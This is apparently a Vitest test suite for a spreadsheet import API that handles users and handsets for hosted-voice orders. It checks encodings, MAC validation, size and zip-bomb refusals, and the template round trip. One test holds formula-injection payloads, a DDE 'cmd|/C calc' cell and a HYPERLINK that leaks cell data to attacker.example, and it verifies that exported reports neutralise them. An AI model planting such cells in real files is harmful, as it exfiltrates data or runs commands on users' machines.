import { readFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dialects } from '../test/database.js';
import type { ImportJobView } from './import-repository.js';
import { buildItem, buildProposal } from '../test/factories.js';
import { listen, upload } from '../test/http-client.js';
import { createTestServer, type TestServer } from '../test/server.js';

const fixture = (name: string) =>
  new URL(`../../test/fixtures/imports/${name}`, import.meta.url).pathname;

type Job = ImportJobView;

interface RecordBody {
  id: string;
  values: Record<string, unknown>;
  status: string;
  provenance: Record<string, { source: string; detail?: string }>;
}

describe.each(dialects)('spreadsheet imports on %s', (dialect) => {
  let server: TestServer;
  let base: string;
  let acquisitionId: string;
  const sales = () => server.auth('sales');
  const url = (path = '') => `${base}/api/v1/acquisitions/${acquisitionId}${path}`;

  const openAcquisition = async (seats = 6) => {
    const created = await server.app.inject({
      method: 'POST',
      url: '/api/v1/acquisitions',
      headers: sales(),
      payload: buildProposal({
        items: [
          {
            id: 'group',
            productSpecification: 'hosted-voice',
            quantity: 1,
            characteristics: { numberBlocks: 1, extensionLength: 4 },
          },
          buildItem({
            id: 'seats',
            quantity: seats,
            characteristics: {
              features: ['voicemail'],
              handsetModel: 'Yealink T54W',
              userType: 'standard',
            },
          }),
        ],
      }),
    });
    expect(created.statusCode).toBe(201);
    const id = created.json<{ id: string }>().id;
    // Engineering has entered the customer's number block: +44 1904 550100 to 550199.
    const blocks = await records(id, 'numberBlock');
    await server.services.capture.engine.write(
      id,
      [
        {
          op: 'update',
          id: blocks[0]!.id,
          patch: { firstNumber: '+441904550100', lastNumber: '+441904550199', source: 'new' },
        },
      ],
      { source: 'api', actor: 'engineer-test' },
    );
    return id;
  };

  const records = async (id: string, entity: string) =>
    (
      await server.app.inject({
        method: 'GET',
        url: `/api/v1/acquisitions/${id}/records?entity=${entity}&limit=200`,
        headers: sales(),
      })
    ).json<{ items: RecordBody[] }>().items;

  const findingsOf = async (entity: string) =>
    (
      await server.app.inject({
        method: 'GET',
        url: `/api/v1/acquisitions/${acquisitionId}/findings?entity=${entity}`,
        headers: sales(),
      })
    ).json<{ items: { rule: string; field: string; recordId: string }[] }>().items;

  const importFile = async (
    name: string,
    fields: Record<string, string> = {},
    headers: Record<string, string> = sales(),
  ) => upload(url('/imports'), { path: fixture(name) }, headers, fields);

  beforeAll(async () => {
    server = await createTestServer(dialect, undefined, { maxBytes: 2 * 1024 * 1024 });
    base = await listen(server);
  });
  afterAll(() => server.close());

  describe('reading what customers send', () => {
    beforeAll(async () => {
      // Room for every user the tests below import: rows past the plan's maximum are refused.
      acquisitionId = await openAcquisition(12);
    });

    it('finds a header on row 3, maps synonyms, skips blank rows, adds + to numbers and reports a duplicate extension by row', async () => {
      const response = await importFile('users-header-row-3.csv');
      expect(response.status).toBe(201);
      const job = (await response.json()) as Job;
      expect(job.sheets[0]).toMatchObject({ entity: 'user', headerRow: 3 });
      const mapping = Object.fromEntries(
        job.sheets[0]!.columns.map((c) => [c.header, [c.field, c.match]]),
      );
      expect(mapping).toMatchObject({
        'Given Name': ['firstName', 'synonym'],
        Surname: ['lastName', 'synonym'],
        'E-mail': ['email', 'normalized'],
        Ext: ['extension', 'synonym'],
        DDI: ['directNumber', 'synonym'],
        Office: ['site', 'synonym'],
        Dept: ['department', 'synonym'],
        'Desk Location': [null, 'unmapped'],
      });
      expect(job).toMatchObject({
        status: 'completed',
        applied: true,
        rowsRead: 5,
        created: 0,
        updated: 5,
        invalid: 2,
      });
      // Rows 7 and 8 (as the spreadsheet numbers them) share extension 2003.
      const duplicate = job.findings.filter((f) => f.field === 'extension');
      expect(duplicate.map((f) => [f.row, f.column, f.header, f.value])).toEqual([
        [7, 'D', 'Ext', '2003'],
        [8, 'D', 'Ext', '2003'],
      ]);
      const users = await records(acquisitionId, 'user');
      const rhys = users.find((u) => u.values.lastName === 'Okafor')!;
      expect(rhys.values).toMatchObject({
        directNumber: '+441904550102',
        extension: '2002',
        department: 'Surveying',
      });
      expect(rhys.provenance.lastName).toMatchObject({
        source: 'import',
        detail: 'users-header-row-3.csv row 5',
      });
    });

    it('reads Windows-1252 with semicolons, and takes an explicit mapping for headers it cannot guess', async () => {
      const response = await importFile('users-windows-1252.csv', {
        mapping: JSON.stringify({ Vorname: 'firstName', Nachname: 'lastName' }),
      });
      expect(response.status).toBe(201);
      const job = (await response.json()) as Job;
      expect(job.sheets[0]!.columns.find((c) => c.header === 'Vorname')).toMatchObject({
        field: 'firstName',
        match: 'explicit',
      });
      const names = (await records(acquisitionId, 'user')).map((u) => u.values.firstName);
      expect(names).toEqual(expect.arrayContaining(['Zoë', 'José']));
    });

    it('reads UTF-16 LE and BE with byte-order marks, and UTF-8 with a BOM and a line break inside a quoted cell', async () => {
      for (const name of ['users-utf-16le.txt', 'users-utf-16be.csv', 'users-utf-8-bom.csv']) {
        const response = await importFile(name, { mode: 'validate' });
        expect(response.status, name).toBe(201);
        const job = (await response.json()) as Job;
        expect(job.sheets[0]!.columns[0], name).toMatchObject({
          header: 'First Name',
          field: 'firstName',
        });
        expect(job.applied).toBe(false);
      }
      const utf16 = (await (await importFile('users-utf-16le.txt')).json()) as Job;
      expect(utf16.rowsRead).toBe(2);
      const users = await records(acquisitionId, 'user');
      expect(users.map((u) => u.values.firstName)).toEqual(
        expect.arrayContaining(['Siân', 'Łukasz']),
      );
    });

    it('normalises MACs in three notations and reports the bad and the duplicate one at their rows', async () => {
      const response = await importFile('handsets-three-mac-notations.csv');
      const job = (await response.json()) as Job;
      expect(job.sheets[0]).toMatchObject({ entity: 'handset', headerRow: 1 });
      expect(job.rowsRead).toBe(5);
      const macs = (await records(acquisitionId, 'handset')).map((h) => h.values.mac);
      expect(macs).toEqual(
        expect.arrayContaining(['80:5E:C0:12:34:01', '80:5E:C0:12:34:02', '80:5E:C0:12:34:03']),
      );
      const byRow = job.findings.map((f) => [f.row, f.column, f.field, f.rule]);
      expect(byRow).toEqual(
        expect.arrayContaining([
          [6, 'A', 'mac', 'format'],
          [2, 'A', 'mac', 'unique'],
          [7, 'A', 'mac', 'unique'],
        ]),
      );
      expect(job.invalid).toBe(3);
    });

    it('merges a sheet sent again by natural key, and with match=add adds its rows as new records', async () => {
      const before = await records(acquisitionId, 'handset');
      const merged = (await (await importFile('handsets-three-mac-notations.csv')).json()) as Job;
      // Every row finds its record again, the invalid and the duplicate ones too.
      expect(merged).toMatchObject({ created: 0, updated: 0, unchanged: 5 });
      expect(await records(acquisitionId, 'handset')).toHaveLength(before.length);
      const added = (await (
        await importFile('handsets-three-mac-notations.csv', { match: 'add', mode: 'validate' })
      ).json()) as Job;
      expect(added.unchanged).toBe(0);
      // Added again, every valid MAC is a duplicate of the handset that already has it: no row
      // finds its record by key, each fills one of the plan's unfilled handsets instead.
      expect(added).toMatchObject({ created: 0, updated: 5, unchanged: 0 });
      expect(
        added.findings.filter((f) => f.rule === 'unique' && f.field === 'mac').map((f) => f.row),
      ).toEqual([2, 3, 4, 7]);
    });

    it('keeps a line break inside a quoted cell', async () => {
      await importFile('users-utf-8-bom.csv');
      const chloe = (await records(acquisitionId, 'user')).find(
        (u) => u.values.firstName === 'Chloé',
      );
      expect(chloe?.values.department).toBe('Building Services');
    });

    it('reads XLSX cells as text, as they appear: no date from a number, a formula by its stored result', async () => {
      const response = await importFile('handsets-excel.xlsx', { mode: 'validate' });
      expect(response.status).toBe(201);
      const job = (await response.json()) as Job;
      expect(job.sheets[0]).toMatchObject({ entity: 'handset', headerRow: 2 });
      expect(job.rowsRead).toBe(3);
      // 805012341200 was typed into a number cell: it is read as those digits, a valid MAC.
      expect(job.findings.filter((f) => f.field === 'mac')).toEqual([]);
    });
  });

  describe('refusals that store nothing', () => {
    beforeAll(async () => {
      acquisitionId = await openAcquisition();
    });

    it('refuses a file over the size limit with 413', async () => {
      const big = new TextEncoder().encode(
        `First Name,Last Name\n${'Ann,Example\n'.repeat(200_000)}`,
      );
      const response = await upload(url('/imports'), { bytes: big, name: 'big.csv' }, sales());
      expect(response.status).toBe(413);
      expect(await response.json()).toMatchObject({ code: 'import.file-too-large' });
    });

    it('refuses a zip bomb before unpacking it', async () => {
      const response = await importFile('zip-bomb.xlsx');
      expect(response.status).toBe(422);
      const body = (await response.json()) as { code: string; detail: string };
      expect(body.code).toBe('import.unpacks-too-large');
      expect(body.detail).toMatch(/compressed \d+ to 1/);
    });

    it('refuses an old .xls, and a file that is not a spreadsheet', async () => {
      const xls = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
      const response = await upload(url('/imports'), { bytes: xls, name: 'old.xls' }, sales());
      expect(response.status).toBe(422);
      expect(await response.json()).toMatchObject({ code: 'import.unreadable' });
      const broken = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5]);
      const zip = await upload(url('/imports'), { bytes: broken, name: 'x.xlsx' }, sales());
      expect(zip.status).toBe(422);
      expect(await zip.json()).toMatchObject({ code: 'import.unreadable' });
    });

    it('all-or-nothing stores nothing when a row is invalid, and reports what would happen', async () => {
      const before = await records(acquisitionId, 'handset');
      const response = await importFile('handsets-three-mac-notations.csv', {
        mode: 'all-or-nothing',
      });
      const job = (await response.json()) as Job;
      // Every row is invalid here: besides the bad and the duplicate MAC, no user has the extensions.
      expect(job).toMatchObject({ status: 'completed', applied: false, rowsRead: 5, invalid: 5 });
      expect(await records(acquisitionId, 'handset')).toEqual(before);
      const history = await server.database.db
        .selectFrom('record_history')
        .select('record_id')
        .where('source', '=', 'import')
        .where('acquisition_id', '=', acquisitionId)
        .execute();
      expect(history).toEqual([]);
    });
  });

  describe('safety of what goes back out', () => {
    beforeAll(async () => {
      acquisitionId = await openAcquisition();
    });

    it('stores formula-looking cells as plain text and neutralises them in the CSV report', async () => {
      const job = (await (await importFile('users-formula-cells.csv')).json()) as Job;
      const users = await records(acquisitionId, 'user');
      expect(users.map((u) => u.values.lastName)).toContain("+cmd|' /C calc'!A0");
      // The HYPERLINK is longer than a first name may be: its row is refused, yet reported.
      expect(job.findings).toContainEqual(expect.objectContaining({ row: 2, rule: 'import.row' }));
      const report = await (
        await fetch(url(`/imports/${job.id}/report?format=csv`), { headers: sales() })
      ).text();
      expect(report).toContain(`"'=HYPERLINK(`);
      expect(report).toContain(`'@SUM(1+1)`);
      expect(report).toContain(`,'+cmd|' /C calc'!A0,`);
      expect(report).not.toMatch(/(^|,)[=+@]/m);
      // In the XLSX report the same cells are text, in text format: they show as typed and never run.
      const xlsx = await fetch(url(`/imports/${job.id}/report?format=xlsx`), { headers: sales() });
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await xlsx.arrayBuffer());
      const cell = workbook.worksheets[0]!.getCell('A2');
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe('=HYPERLINK("http://attacker.example/?leak="&A2,"Click me")');
      expect(cell.numFmt).toBe('@');
    });
  });

  describe('the round trip: template, fill in, report, fix, upload again', () => {
    beforeAll(async () => {
      acquisitionId = await openAcquisition();
    });

    it('ends with no findings for the entity', async () => {
      const template = await fetch(url('/template'), { headers: sales() });
      expect(template.status).toBe(200);
      expect(template.headers.get('content-type')).toContain('spreadsheetml');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await template.arrayBuffer());
      expect(workbook.worksheets.map((w) => w.name)).toEqual(
        expect.arrayContaining(['Instructions', 'Users', 'Handsets', 'Sites']),
      );
      const sheet = workbook.getWorksheet('Handsets')!;
      const header = (sheet.getRow(1).values as string[]).slice(1);
      expect(header.slice(0, 3)).toEqual(['Intake ID', 'MAC address *', 'Model *']);
      expect(sheet.rowCount).toBe(7);
      expect(sheet.getCell('B2').numFmt).toBe('@');

      // The customer fills in six MACs, two of them wrong: row 3 is not a MAC, row 6 repeats row 2.
      const macs = [
        '80:5E:C0:AA:00:01',
        'not-a-mac',
        '80:5E:C0:AA:00:03',
        '80:5E:C0:AA:00:04',
        '80:5E:C0:AA:00:01',
        '80:5E:C0:AA:00:06',
      ];
      macs.forEach((mac, i) => {
        sheet.getCell(i + 2, 2).value = mac;
      });
      const filled = Buffer.from(await workbook.xlsx.writeBuffer());
      const first = (await (
        await upload(url('/imports'), { bytes: filled, name: 'filled.xlsx' }, sales(), {
          mode: 'valid-rows',
        })
      ).json()) as Job;
      const handsetSheet = first.sheets.findIndex((s) => s.entity === 'handset');
      expect(handsetSheet).toBeGreaterThanOrEqual(0);
      const macFindings = first.findings
        .filter((f) => f.field === 'mac')
        .map((f) => [f.row, f.column, f.rule]);
      expect(macFindings).toEqual(
        expect.arrayContaining([
          [3, 'B', 'format'],
          [2, 'B', 'unique'],
          [6, 'B', 'unique'],
        ]),
      );
      expect((await findingsOf('handset')).length).toBeGreaterThan(0);

      // The report comes back as XLSX with a Problems column; the customer fixes rows 3 and 6 in it.
      const reportResponse = await fetch(url(`/imports/${first.id}/report?format=xlsx`), {
        headers: sales(),
      });
      expect(reportResponse.status).toBe(200);
      const report = new ExcelJS.Workbook();
      await report.xlsx.load(await reportResponse.arrayBuffer());
      const reportSheet = report.getWorksheet('Handsets')!;
      const reportHeader = (reportSheet.getRow(1).values as string[]).slice(1);
      const problemsColumn = reportHeader.indexOf('Problems') + 1;
      expect(problemsColumn).toBeGreaterThan(0);
      expect(reportSheet.getCell(3, problemsColumn).text).toMatch(/MAC address/);
      expect(reportSheet.getCell(4, problemsColumn).value ?? '').toBe('');
      reportSheet.getCell(3, 2).value = '80:5E:C0:AA:00:02';
      reportSheet.getCell(6, 2).value = '80:5E:C0:AA:00:05';
      const fixed = Buffer.from(await report.xlsx.writeBuffer());
      const second = (await (
        await upload(url('/imports'), { bytes: fixed, name: 'filled-report.xlsx' }, sales())
      ).json()) as Job;
      expect(second).toMatchObject({ status: 'completed', applied: true });
      // The other sheets come back too; the proposal's own contact phone is not a real number.
      expect(second.findings.filter((f) => f.sheet === 'Handsets')).toEqual([]);
      expect(second.unchanged).toBeGreaterThan(0);
      expect(await findingsOf('handset')).toEqual([]);
      const handsets = await records(acquisitionId, 'handset');
      expect(handsets).toHaveLength(6);
      expect(handsets.map((h) => h.values.mac).sort()).toEqual(
        ['01', '02', '03', '04', '05', '06'].map((n) => `80:5E:C0:AA:00:${n}`),
      );
    });

    it('sends the same upload with the same Idempotency-Key only once', async () => {
      const headers = { ...sales(), 'idempotency-key': 'upload-7f3a' };
      const bytes = await readFile(fixture('users-utf-8-bom.csv'));
      const first = await upload(url('/imports'), { bytes, name: 'a.csv' }, headers);
      expect(first.status).toBe(201);
      const again = await upload(url('/imports'), { bytes, name: 'a.csv' }, headers);
      expect(again.status).toBe(200);
      expect(again.headers.get('idempotent-replayed')).toBe('true');
      expect(((await again.json()) as Job).id).toBe(((await first.json()) as Job).id);
      const other = await upload(
        url('/imports'),
        { bytes: new TextEncoder().encode('First Name\nAnn\n'), name: 'b.csv' },
        headers,
      );
      expect(other.status).toBe(422);
      expect(await other.json()).toMatchObject({ code: 'import.idempotency-key-reused' });
    });
  });
});
